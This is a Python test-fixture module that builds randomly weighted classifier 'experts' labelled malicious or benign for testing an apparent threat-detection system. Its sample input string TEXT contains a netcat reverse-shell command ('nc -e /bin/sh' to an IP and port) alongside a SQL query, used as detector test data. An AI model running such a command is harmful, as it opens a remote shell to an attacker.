"""Experts with drawn weights, for tests of everything but what they know."""

from dataclasses import replace
from pathlib import Path

import numpy as np

from watchfloor.experts.adapter import MAPS, Adapter, Below
from watchfloor.experts.backbone import RANK, Backbone
from watchfloor.experts.card import Calibration, Card, Windows
from watchfloor.experts.domain import Domain
from watchfloor.experts.lexicon import Lexicon
from watchfloor.experts.packs import Plugged, save
from watchfloor.experts.pieces import SHAPE, grams

WINDOWS = Windows(size=32, overlap=4, most=2)
TEXT = "select * from users where id = 1; nc -e /bin/sh 10.0.0.1 4444"


def drawn(backbone: Backbone, name: str = "one", seed: int = 0, labels: tuple[str, ...] = ("malicious", "benign"),
          windows: Windows = WINDOWS, limit: float = -1e9, *, deep: bool = False) -> Plugged:  # fmt: skip
    draw = np.random.default_rng(seed)
    width, axes = len(backbone.background.centre), backbone.background.whiten.shape[1]

    def some(*shape: int) -> np.ndarray:
        return (draw.standard_normal(shape) * 0.3).astype(np.float16).astype(np.float32)

    known = grams(backbone.pieces.split([TEXT])[0])
    lexicon = Lexicon(known, draw.integers(-90, 90, (len(known), len(labels))).astype(np.int8),
                      np.full(len(labels), 0.01, np.float32), np.eye(len(labels), dtype=np.float32))  # fmt: skip

    # In bytes already, as a pack keeps it: what is read back is the very same on every processor.
    def changes() -> dict[str, tuple[np.ndarray, np.ndarray]]:
        pairs = {key: (draw.integers(-126, 127, (i * width, RANK)), draw.integers(-126, 127, (RANK, o * width)))
                 for key, (i, o) in MAPS.items()}  # fmt: skip
        for down, up in pairs.values():
            down[0], up[:, 0] = 127, 127
        return {key: (np.float32(0.004) * down.astype(np.float32), np.float32(0.004) * up.astype(np.float32))
                for key, (down, up) in pairs.items()}  # fmt: skip

    blocks = int(backbone.pack.manifest["shape"]["blocks"]) - 1
    below = Below.of([changes() for _ in range(blocks)]) if deep else None
    head = draw.integers(-126, 127, (2 * width + SHAPE, len(labels)))
    head[0] = 127
    adapter = Adapter(changes(), some(width), (head * 0.006).astype(np.float32), some(len(labels)), lexicon, below)
    card = Card(name, "choice", labels, "drawn", backbone.version, windows, Calibration(1.0, (0.0,) * len(labels), 0.0),
                "", {}, {}, "2026-01-01")  # fmt: skip
    domain = Domain(np.zeros((1, axes), np.float32), np.ones((1, axes), np.float32), limit)
    return Plugged(card, adapter, domain, f"version {seed}", Path(), "")


def packed(expert: Plugged, folder: Path) -> Path:
    save(folder, expert.card, expert.adapter, expert.domain)
    return folder


def listening(expert: Plugged, word: str, backbone: Backbone, label: str = "malicious") -> Plugged:
    """The expert, with a lexicon in which one word alone raises the alarm."""
    known = grams(backbone.pieces.split([word])[0])
    place = expert.card.labels.index(label)
    vectors = np.zeros((len(known), len(expert.card.labels)), np.int8)
    vectors[:, place] = 100
    many = len(expert.card.labels)
    lexicon = Lexicon(known, vectors, np.ones(many, np.float32), np.eye(many, dtype=np.float32))
    bias = np.asarray([-4.0 if each == label else 4.0 for each in expert.card.labels], np.float32)
    quiet = replace(expert.adapter, head=np.zeros_like(expert.adapter.head), bias=bias, lexicon=lexicon)
    return replace(expert, adapter=quiet)
